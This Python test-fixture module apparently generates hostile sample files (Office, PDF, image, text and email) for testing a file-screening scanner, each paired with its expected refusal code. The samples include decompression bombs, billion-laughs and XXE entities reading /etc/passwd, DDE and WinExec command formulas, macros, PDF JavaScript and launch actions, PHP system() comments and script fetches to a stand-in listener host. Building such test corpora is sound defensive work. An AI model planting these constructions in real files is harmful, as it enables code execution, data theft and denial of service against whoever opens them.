"""Files that are made to harm whoever opens them, or the program that looks at them; each with what must be said.

`{trap}` in them is an address at which somebody listens, and `{made}` a file that a command would make.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Sequence

from making import DOCUMENT, OFFICE, OPEN, WORD, docx, jpg, mail, paragraph, pdf, png, put_together, xlsx

from mips_ia.screening.kinds import LARGEST

RELATIONS = f'<Relationships xmlns="{OPEN}/relationships">{{}}</Relationships>'
BODY = paragraph("A policy.")
REFUSED = {"file_kind", "file_name", "file_broken", "file_bomb", "file_paths", "file_locked", "file_active",
           "file_polyglot", "file_unread", "file_size", "file_empty"}  # fmt: skip
Case = tuple[str, bytes, set[str]]


def relation(kind: str, target: str, outside: bool = True) -> str:
    mode = ' TargetMode="External"' if outside else ""
    return RELATIONS.format(f'<Relationship Id="r9" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>')


def archive(*parts: tuple[str, bytes], pack: int = zipfile.ZIP_DEFLATED) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", pack) as made:
        for name, content in parts:
            made.writestr(name, content)
    return held.getvalue()


def whole(document: str | bytes, *more: tuple[str, bytes], pack: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A Word file of this main part, whatever it is."""
    types = f'<Types xmlns="{OPEN}/content-types"><Override PartName="/word/document.xml" ContentType="{DOCUMENT}.document.main+xml"/></Types>'
    main = document if isinstance(document, bytes) else document.encode()
    return archive(("[Content_Types].xml", types.encode()), ("word/document.xml", main), *more, pack=pack)


def said(text: str) -> str:
    return f'<w:document xmlns:w="{WORD}"><w:body>{text}</w:body></w:document>'


def patched(content: bytes, name: bytes, at: int, value: bytes) -> bytes:
    """An archive in whose directory a field of a part says something else."""
    made = bytearray(content)
    place = content.rfind(b"PK\1\2", 0, content.rfind(name)) + at
    made[place : place + len(value)] = value
    return bytes(made)


def overlapping() -> bytes:
    """An archive whose parts are all the same bytes, as a bomb that grows by its directory."""
    content = whole(said(BODY), *((f"word/media/{number}.bin", b"\0" * 900_000) for number in range(3)))
    first = content.find(b"PK\3\4", content.find(b"word/media/0.bin"))
    second = content.find(b"word/media/1.bin", content.find(b"PK\1\2"))
    offset = content.find(b"word/media/0.bin") - 30
    assert first > 0
    return patched(content, b"word/media/1.bin" if second else b"", 42, struct.pack("<I", offset))


def laughs(levels: int = 9) -> str:
    kinds = "".join(
        f'<!ENTITY a{number} "{f"&a{number - 1};" * 10 if number else "ha"}">' for number in range(levels)
    )
    return f"<!DOCTYPE w:document [{kinds}]>" + said(paragraph("x").replace("x", f"&a{levels - 1};"))


def with_action(action: bytes, extra: bytes = b"", **more: bytes) -> bytes:
    return pdf(["A policy."], catalog=b"/OpenAction " + action, extra=extra, **more)


def in_object_stream(held: bytes) -> bytes:
    """A PDF one of whose objects is packed, where a search of its bytes does not see it."""
    packed = zlib.compress(b"100 0 " + held)
    stream = b"<< /Type /ObjStm /N 1 /First 6 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (
        len(packed),
        packed,
    )
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 100 0 R >>", 2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>", 5: stream,
    }  # fmt: skip
    made, places = io.BytesIO(), {}
    made.write(b"%PDF-1.7\n")
    for number, each in objects.items():
        places[number] = made.tell()
        made.write(b"%d 0 obj\n%s\nendobj\n" % (number, each))
    start = made.tell()
    rows = b"".join(b"\1" + struct.pack(">IH", places[number], 0) for number in (1, 2, 3))
    rows += b"\1" + struct.pack(">IH", places[5], 0) + b"\2" + struct.pack(">IH", 5, 0)
    table = zlib.compress(rows + b"\1" + struct.pack(">IH", start, 0))
    made.write(
        b"6 0 obj\n<< /Type /XRef /Size 101 /W [1 4 2] /Index [1 3 5 1 100 1 6 1] /Root 1 0 R /Filter /FlateDecode /Length %d >>\n"
        b"stream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (len(table), table, start)
    )
    return made.getvalue()


def bomb_pdf(megabytes: int = 110) -> bytes:
    packed = zlib.compressobj(9)
    held = b"".join(packed.compress(bytes(2**20)) for _ in range(megabytes)) + packed.flush()
    return put_together({
        1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", 4: b"<< >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 5 0 R >>",
        5: b"<< /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (len(held), held),
    })  # fmt: skip


def tree(pages: bytes, page: bytes = b"/MediaBox [0 0 612 792]", extra: bytes = b"") -> bytes:
    return put_together({
        1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages " + pages + b" >>",
        3: b"<< /Type /Page /Parent 2 0 R " + page + b" >>", 4: b"<< >>",
    }, extra)  # fmt: skip


def chunk(kind: bytes, held: bytes) -> bytes:
    return struct.pack(">I", len(held)) + kind + held + struct.pack(">I", zlib.crc32(kind + held))


def png_of(*chunks: bytes, size: tuple[int, int] = (10, 10)) -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", *size, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(chunks) + chunk(b"IEND", b"")


def packed(size: int) -> bytes:
    return zlib.compress(bytes(size), 9)


def huge_jpg() -> bytes:
    made = bytearray(jpg())
    at = made.find(b"\xff\xc0")
    made[at + 5 : at + 9] = struct.pack(">HH", 65_000, 65_000)
    return bytes(made)


def nested_mail(depth: int) -> bytes:
    made = b"From: a@demo.example\nTo: b@demo.example\nSubject: x\nMIME-Version: 1.0\n\nhello\n"
    for number in range(depth):
        made = mail(f"level {number}", files=[("inner.eml", made)])
    return made


def deep_mime(depth: int) -> bytes:
    head = b"From: a@demo.example\nTo: b@demo.example\nSubject: x\nMIME-Version: 1.0\n"
    levels = b"".join(
        b'Content-Type: multipart/mixed; boundary="b%d"\n\n--b%d\n' % (number, number)
        for number in range(depth)
    )
    return head + levels + b"Content-Type: text/plain\n\nhello\n"


def office(trap: str, made: str) -> list[Case]:
    macros = [("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")]
    types = f'<Types xmlns="{OPEN}/content-types"><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    field = "<w:p><w:r><w:instrText>{}</w:instrText></w:r></w:p>"
    split = "".join(
        f"<w:r><w:instrText>{part}</w:instrText></w:r>"
        for part in ("DD", "EAU", f'TO c:\\\\run "touch {made}"')
    )
    entity = f'<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>{said(paragraph("x"))}'.replace(
        ">x<", ">&x;<"
    )
    book = xlsx([["A", 1]])
    return [
        ("swells.docx", whole(said(BODY), ("word/media/a.bmp", bytes(30_000_000))), {"file_bomb"}),
        ("many-parts.docx", whole(said(BODY), *((f"word/{n}.xml", b"<a/>") for n in range(5_001))), {"file_bomb"}),
        ("archive-in-archive.docx", whole(said(BODY), ("word/media/a.png", archive(("b", archive(("c", bytes(10**6))))))), {"file_active"}),
        ("overlapping.docx", overlapping(), {"file_bomb"}),
        ("claims-a-gigabyte.docx", patched(whole(said(BODY), ("word/x.xml", b"<a/>")), b"word/x.xml", 24, struct.pack("<I", 2**30)), {"file_bomb"}),
        ("claims-little.docx", patched(whole(said(BODY * 2_000)), b"word/document.xml", 24, struct.pack("<I", 40)), {"file_broken"}),
        ("wrong-sum.docx", patched(whole(said(BODY)), b"word/document.xml", 16, b"\1\2\3\4"), {"file_broken"}),
        ("deep.docx", whole(said("<w:p>" * 50_000 + "</w:p>" * 50_000)), {"file_broken"}),
        ("laughs.docx", whole(laughs()), {"file_broken"}),
        ("laughs-utf16.docx", whole(f'<?xml version="1.0" encoding="UTF-16"?>{laughs()}'.encode("utf-16")), {"file_broken"}),
        ("reads-a-file.docx", whole(entity), {"file_broken"}),
        ("fetches-definitions.docx", whole(f'<!DOCTYPE a SYSTEM "{trap}/a.dtd">{said(BODY)}'), {"file_broken"}),
        ("quadratic.docx", whole(f'<!DOCTYPE a [<!ENTITY x "{"y" * 50_000}">]>' + said(paragraph("z").replace("z", "&x;" * 5_000))), {"file_broken"}),
        ("no-xml.docx", whole(b"\0\1\2 not xml"), {"file_broken"}),
        ("macros.docx", whole(said(BODY), *macros), {"file_active"}),
        ("macros-renamed.docx", docx(BODY, **{"word__a.dat": b"\0\1", "word___rels__document.xml.rels": relation("vbaProject", "a.dat", False)}), {"file_active"}),
        ("macros-by-type.docx", archive(("[Content_Types].xml", types.encode()), ("word/document.xml", said(BODY).encode())), {"file_active"}),
        ("remote-template.docx", docx(BODY, **{"word___rels__settings.xml.rels": relation("attachedTemplate", f"{trap}/t.dotm")}), {"file_active"}),
        ("remote-template-respelled.docx", docx(BODY, **{"word___rels__settings.xml.rels": relation("attachedTemplate", f"{trap}/t.dotm").replace("External", "Extern&#97;l").encode("utf-16")}), {"file_active"}),
        ("remote-picture.docx", docx(BODY, **{"word___rels__document.xml.rels": relation("image", f"{trap}/p.png")}), {"file_active"}),
        ("remote-object.docx", docx(BODY, **{"word___rels__document.xml.rels": relation("oleObject", f"{trap}/o.html!")}), {"file_active"}),
        ("dde.docx", docx(BODY + field.format(f'DDEAUTO c:\\\\cmd.exe "/c touch {made}"')), {"file_active"}),
        ("dde-split.docx", docx(f"<w:p>{split}</w:p>"), {"file_active"}),
        ("dde-by-another-prefix.docx", docx(f'<q:instrText xmlns:q="{WORD}">DDE&#65;UTO c: "touch {made}"</q:instrText>'), {"file_active"}),
        ("chunk.docx", docx(BODY, **{"word__c.htm": f"<script>fetch('{trap}')</script>", "word___rels__document.xml.rels": relation("aFChun&#107;", "c.htm", False)}), {"file_active"}),
        ("includes-a-picture.docx", docx(BODY + field.format(f'INCLUDEPICTURE "{trap}/p.png"')), {"file_active"}),
        ("ole.docx", whole(said(BODY), ("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0")), {"file_active"}),
        ("activex.docx", whole(said(BODY), ("word/activeX/activeX1.xml", b"<a/>")), {"file_active"}),
        ("program-in-it.docx", whole(said(BODY), ("word/media/logo.png", b"MZ\x90\0" * 9)), {"file_active"}),
        ("script-in-a-drawing.docx", whole(said(BODY), ("word/media/a.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>x()</script></svg>")), {"file_active"}),
        ("up-and-out.docx", whole(said(BODY), (f"../../../../{made}", b"x")), {"file_paths"}),
        ("absolute.docx", whole(said(BODY), (made, b"x")), {"file_paths"}),
        ("other-disk.docx", whole(said(BODY), ("C:\\Windows\\x.dll", b"x")), {"file_paths"}),
        ("one-name-twice.docx", whole(said(BODY), ("WORD/DOCUMENT.XML", b"<a/>")), {"file_paths"}),
        ("password.docx", patched(whole(said(BODY)), b"word/document.xml", 8, b"\1\0"), {"file_locked"}),
        ("odd-packing.docx", whole(said(BODY), pack=zipfile.ZIP_LZMA), {"file_broken"}),
        ("something-behind.docx", docx(BODY) + f"<script>fetch('{trap}')</script>".encode(), {"file_polyglot"}),
        ("something-before.docx", b"GIF89a" + docx(BODY), {"file_kind"}),
        ("pdf-as-well.docx", archive(("word/a.xml", b"<a><![CDATA[" + with_action(b"<< /S /JavaScript /JS (x) >>") + b"]]></a>"), *_parts(docx(BODY)), pack=zipfile.ZIP_STORED), {"file_polyglot"}),
        ("cut.docx", docx(BODY)[:-40], {"file_broken"}),
        ("links.xlsx", archive(*_parts(book), ("xl/externalLinks/externalLink1.xml", b"<a/>")), {"file_active"}),
        ("old-macros.xlsx", archive(*_parts(book), ("xl/macrosheets/sheet1.xml", b"<a/>")), {"file_active"}),
        ("fetches.xlsx", _formula(f'WEBSERVICE("{trap}")'), {"file_active"}),
        ("fetches-respelled.xlsx", _formula(f'WEB&#83;ERVICE("{trap}")'), {"file_active"}),
        ("asks-a-program.xlsx", _formula(f"cmd|'/c touch {made}'!A0"), {"file_active"}),
        ("calls.xlsx", _formula('CALL("Kernel32","WinExec","JCJ","x",0)'), {"file_active"}),
        ("strings-far-away.xlsx", with_cells('<c r="A1" t="s"><v>99999999999999999999</v></c><c r="ZZZZZZ1"><v>1e999</v></c>'), {"file_broken"}),
        ("dense-sheet.xlsx", with_cells("".join(f"<c><v>{n * 7919 % 99_991}</v></c>" for n in range(1_000_000))), {"file_unread"}),
        ("dense.docx", whole(said("".join(f'<w:p w:a="{n}" w:b="" w:c=""/>' for n in range(700_000)))), {"file_unread"}),
        ("endless-sheet.xlsx", with_cells("<c><v>1</v></c>" * 3_000_000), {"file_bomb", "file_unread"}),
    ]  # fmt: skip


def _parts(content: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(content)) as held:
        return [(each, held.read(each)) for each in held.namelist()]


def _formula(text: str) -> bytes:
    escaped = text.replace('"', "&quot;")
    return with_cells(f'<c r="A1"><f>{escaped}</f><v>1</v></c>')


def with_cells(cells: str) -> bytes:
    """A workbook whose one sheet has these cells in its first row."""
    start = (
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">'
    )
    sheet = f"{start}{cells}</row></sheetData></worksheet>".encode()
    parts = [
        (name, sheet if name == "xl/worksheets/sheet1.xml" else held) for name, held in _parts(xlsx([["A"]]))
    ]
    return archive(*parts)


def pdfs(trap: str, made: str) -> list[Case]:
    script = b"<< /S /JavaScript /JS (app.launchURL\\('%s'\\)) >>" % trap.encode()
    launch = b"<< /S /Launch /F (%s) >>" % made.encode()
    go = b"<< /S /URI /URI (%s) >>" % trap.encode()
    embedded = b"/Names << /EmbeddedFiles << /Names [(a.exe) 100 0 R] >> >>"
    file = b"100 0 obj\n<< /Type /Filespec /F (a.exe) /EF << /F 101 0 R >> >>\nendobj\n\n101 0 obj\n<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream\nendobj"
    self_drawn = b"100 0 obj\n<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /A 100 0 R >> >> /Length 5 >>\nstream\n/A Do\nendstream\nendobj"
    chain = b" ".join([b"/ASCIIHexDecode"] * 5_000)
    return [
        ("script.pdf", with_action(script), {"file_active"}),
        ("script-by-another-name.pdf", with_action(script.replace(b"/JavaScript", b"/J#61v#61Script")), {"file_active"}),
        ("script-packed.pdf", in_object_stream(script), {"file_active"}),
        ("script-of-a-page.pdf", pdf(["A"], page=b"/AA << /O " + script + b" >>"), {"file_active"}),
        ("script-of-a-field.pdf", pdf(["A"], page=b"/Annots [<< /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] /AA << /K " + script + b" >> >>]"), {"file_active"}),
        ("launch.pdf", with_action(launch), {"file_active"}),
        ("launch-a-link.pdf", pdf(["A"], page=b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A " + launch + b" >>]"), {"file_active"}),
        ("goes-out-at-once.pdf", with_action(go), {"file_active"}),
        ("goes-out-by-a-detour.pdf", with_action(b"100 0 R", b"100 0 obj\n" + go + b"\nendobj"), {"file_active"}),
        ("goes-out-with-a-page.pdf", pdf(["A"], page=b"/AA << /O " + go + b" >>"), {"file_active"}),
        ("file-in-it.pdf", pdf(["A"], catalog=embedded, extra=file), {"file_active"}),
        ("xfa.pdf", pdf(["A"], catalog=b"/AcroForm << /Fields [] /XFA 100 0 R >>", extra=b"100 0 obj\n<< /Length 3 >>\nstream\n<a>\nendstream\nendobj"), {"file_active"}),
        ("sends.pdf", with_action(b"<< /S /SubmitForm /F (%s) >>" % trap.encode()), {"file_active"}),
        ("fetches-data.pdf", with_action(b"<< /S /ImportData /F (%s) >>" % trap.encode()), {"file_active"}),
        ("into-another-file.pdf", with_action(b"<< /S /GoToE /T << /R /C >> >>"), {"file_active"}),
        ("stream-elsewhere.pdf", pdf(["A"], extra=b"100 0 obj\n<< /Length 1 /F (%s) >>\nstream\nx\nendstream\nendobj" % trap.encode()), {"file_active"}),
        ("stream-elsewhere-packed.pdf", pdf(["A"], extra=b"100 0 obj\n<< /Length 1 /FFilter /FlateDecode /F 101 0 R >>\nstream\nx\nendstream\nendobj"), {"file_active"}),
        ("drawn-from-elsewhere.pdf", pdf(["A"], extra=b"100 0 obj\n<< /Type /XObject /Subtype /Form /BBox [0 0 1 1] /Ref << /F (%s) /Page 0 >> /Length 1 >>\nstream\nx\nendstream\nendobj" % trap.encode()), {"file_active"}),
        ("film.pdf", pdf(["A"], page=b"/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]"), {"file_active"}),
        ("password.pdf", pdf(["A"]).replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt << /Filter /Standard /V 1 /R 2 /O (%s) /U (%s) /P -4 >>" % (b"x" * 32, b"y" * 32)), {"file_locked"}),
        ("bomb.pdf", bomb_pdf(), {"file_bomb"}),
        ("page-before.pdf", f"<html><script>fetch('{trap}')</script></html>\n".encode() + pdf(["A"]), {"file_kind"}),
        ("picture-before.pdf", b"GIF89a" + pdf(["A"]), {"file_kind"}),
        ("archive-behind.pdf", pdf(["A"]) + archive(("a.js", b"x")), {"file_polyglot"}),
        ("page-behind.pdf", pdf(["A"]) + b"<html>" + b"<p>x</p>" * 900, {"file_polyglot"}),
        ("only-a-head.pdf", b"%PDF-1.7\n", {"file_broken"}),
        ("cut.pdf", pdf(["A policy."] * 40)[:700], {"file_broken"}),
        ("noise.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 400, {"file_broken"}),
        ("its-own-child.pdf", tree(b"/Kids [2 0 R] /Count 1"), {"file_broken", "file_unread"}),
        ("claims-pages.pdf", tree(b"/Kids [3 0 R] /Count 2147483647"), {"file_broken"}),
        ("no-pages.pdf", tree(b"/Kids [] /Count 0"), {"file_broken"}),
        ("draws-itself.pdf", tree(b"/Kids [3 0 R] /Count 1", b"/MediaBox [0 0 9 9] /Resources << /XObject << /A 100 0 R >> >> /Contents 100 0 R", self_drawn), {"pages_unread"}),
        ("claims-a-gigabyte.pdf", tree(b"/Kids [3 0 R] /Count 1", b"/MediaBox [0 0 9 9] /Contents 100 0 R", b"100 0 obj\n<< /Length 1073741824 >>\nstream\nBT ET\nendstream\nendobj"), {"file_broken"}),
        ("a-mile-wide.pdf", tree(b"/Kids [3 0 R] /Count 1", b"/MediaBox [0 0 1e9 1e9]"), {"file_broken"}),
        ("many-filters.pdf", tree(b"/Kids [3 0 R] /Count 1", b"/MediaBox [0 0 9 9] /Contents 100 0 R", b"100 0 obj\n<< /Length 2 /Filter [" + chain + b"] >>\nstream\n00\nendstream\nendobj"), {"file_broken"}),
        ("deep-brackets.pdf", pdf(["A"], catalog=b"/X " + b"[" * 100_000 + b"]" * 100_000), {"file_broken"}),
    ]  # fmt: skip


def pictures(trap: str, made: str) -> list[Case]:
    points = chunk(b"IDAT", packed(10 * 31))
    return [
        ("huge.png", png_of(chunk(b"IDAT", packed(1_000)), size=(60_000, 60_000)), {"file_bomb"}),
        ("wide.png", png_of(points, size=(2**31 - 1, 1)), {"file_bomb", "file_broken"}),
        ("huge.jpg", huge_jpg(), {"file_bomb"}),
        ("text-bomb.png", png_of(chunk(b"zTXt", b"a\0\0" + packed(10**7)), points), {"file_bomb"}),
        ("text-bomb-2.png", png_of(chunk(b"iTXt", b"a\0\1\0\0\0" + packed(10**7)), points), {"file_bomb"}),
        ("long-chunk.png", png()[:33] + struct.pack(">I", 2**31 - 1) + b"IDATxx", {"file_broken"}),
        ("no-end.png", png()[:-12], {"file_broken"}),
        ("archive-behind.png", png() + archive(("a.js", b"x")), {"file_polyglot"}),
        ("program-behind.png", png() + b"MZ\x90\0", {"file_polyglot"}),
        ("archive-inside.png", png_of(chunk(b"tEXt", b"a\0" + archive(("a.js", b"x"))), points), {"file_polyglot"}),
        ("page-inside.png", png_of(chunk(b"tEXt", f"a\0<script>fetch('{trap}')</script>".encode()), points), {"file_polyglot"}),
        ("pdf-as-well.png", png_of(chunk(b"prVt", with_action(b"<< /S /JavaScript /JS (x) >>")), points), {"file_polyglot"}),
        ("archive-behind.jpg", jpg() + archive(("a.js", b"x")), {"file_polyglot"}),
        ("page-inside.jpg", jpg(comment=f"<html><script src='{trap}'></script>"), {"file_polyglot"}),
        ("program-inside.jpg", jpg(comment=f"<?php system('touch {made}'); ?>"), {"file_polyglot"}),
        ("no-length.jpg", b"\xff\xd8\xff\xe0\0\0" + bytes(40), {"file_broken"}),
        ("only-a-head.jpg", b"\xff\xd8\xff", {"file_broken"}),
        ("drawing.svg", f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"fetch('{trap}')\"/>".encode(), {"file_kind"}),
        ("drawing.png", f"<?xml version='1.0'?><svg><script>fetch('{trap}')</script></svg>".encode(), {"file_kind"}),
    ]  # fmt: skip


def texts(trap: str, made: str) -> list[Case]:
    page = f"<script>fetch('{trap}')</script>"
    formulas = f"name,note\nA,=HYPERLINK(\"{trap}\")\nB,=cmd|'/c touch {made}'!A1\nC,@SUM(1)\n".encode()
    return [
        ("page.txt", f"<!-- --><html>{page}</html>".encode(), {"file_kind", "file_active"}),
        ("page-2.txt", f"\n\n  <div>{page}</div>".encode(), {"file_kind", "file_active"}),
        ("page-later.txt", f"Minutes\n{page}\n".encode(), {"file_active"}),
        ("page-wide.txt", f"<html>{page}</html>".encode("utf-16"), {"file_kind"}),
        ("page.csv", f"name,note\nA,{page}\n".encode(), {"file_active"}),
        ("program.txt", f"#!/bin/sh\ntouch {made}\n".encode(), {"file_kind"}),
        ("zeros.txt", b"Minutes\0" * 99, {"file_kind"}),
        ("zeros-later.txt", b"Minutes " * 1_000 + b"\0\1\2", {"file_kind"}),
        ("formulas.csv", formulas, {"cell_formulas"}),
        ("a-million-columns.csv", b"a," * 10**6 + b"\n" + b"1," * 10**6, {"file_bomb"}),
        ("a-long-line.txt", b"a" * 8_000_000, {"line_long"}),
        ("names-without-end.txt", b"Aa Bb, Cc. " * 300_000, {"line_long"}),
        ("figures-without-end.txt", b"1-2 3.4/5 " * 100_000, {"line_long"}),
        ("words-without-end.txt", b"patient dob mrn ssn # : - " * 100_000, {"line_long"}),
        ("a-quote-without-end.csv", b'a,b\n"' + b"x,\n" * 1_000_000, {"file_broken"}),
        ("archive.txt", b"a note\n" + archive(("a.js", b"x")), {"file_kind", "file_polyglot"}),
        ("program.exe", b"MZ\x90\0" + bytes(99), {"file_kind"}),
        ("program.pdf", b"\x7fELF\2\1\1", {"file_kind"}),
        ("rich.docx", b"{\\rtf1{\\object\\objupdate}}", {"file_kind"}),
        ("old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(999), {"file_kind"}),
        ("packed.zip", archive(("../x", b"x")), {"file_kind", "file_paths"}),
        ("packed.gz", b"\x1f\x8b\x08" + bytes(20), {"file_kind"}),
        ("nothing.txt", b"", {"file_empty"}),
        ("too-large.txt", b"a" * (LARGEST + 1), {"file_size"}),
    ]  # fmt: skip


def messages(trap: str, made: str) -> list[Case]:
    many = [(f"{number}.txt", b"hello") for number in range(60)]
    return [
        ("program.eml", mail("Hi", files=[("invoice.pdf.exe", b"MZ\x90\0")]), {"file_active"}),
        ("program-2.eml", mail("Hi", files=[("invoice.pdf", b"MZ\x90\0")]), {"file_kind"}),
        ("page.eml", mail("Hi", files=[("invoice.html", f"<script>fetch('{trap}')</script>".encode())]), {"file_active"}),
        ("script.eml", mail("Hi", page=f"<p>Hi</p><script>fetch('{trap}')</script>"), {"file_active"}),
        ("remote-picture.eml", mail("Hi", page=f"<p>Hi</p><img src='{trap}/p.png'>"), {"message_fetches"}),
        ("script-in-a-file.eml", mail("Hi", files=[("a.pdf", with_action(b"<< /S /JavaScript /JS (x) >>"))]), {"file_active"}),
        ("macros.eml", mail("Hi", files=[("a.docm", whole(said(BODY), ("word/vbaProject.bin", b"x")))]), {"file_active"}),
        ("archive.eml", mail("Hi", files=[("a.zip", archive(("a.js", b"x")))]), {"file_kind"}),
        ("up-and-out.eml", mail("Hi", files=[(f"../../../../{made}.bat", b"x")]), {"file_active"}),
        ("many-files.eml", mail("Hi", files=many), {"file_bomb"}),
        ("message-in-message.eml", nested_mail(6), {"file_bomb"}),
        ("deep.eml", deep_mime(150), {"file_bomb"}),
        ("deeper.eml", deep_mime(5_000), {"file_bomb"}),
        ("long-head.eml", b"From: a@demo.example\nTo: b@demo.example\nSubject: " + b"=?utf-8?q?a?= " * 200_000 + b"\nDate: x\n\nhello\n", {"file_bomb"}),
        ("no-alphabet.eml", b"From: a@demo.example\nTo: b@demo.example\nSubject: x\nContent-Type: text/plain; charset=../../etc\n\nhello\n", {"text_unread"}),
    ]  # fmt: skip


def cases(trap: str, made: str) -> list[Case]:
    """All of them. What must be said is one of the codes."""
    writers: Sequence[Callable[[str, str], list[Case]]] = (office, pdfs, pictures, texts, messages)
    return [case for writer in writers for case in writer(trap, made)]
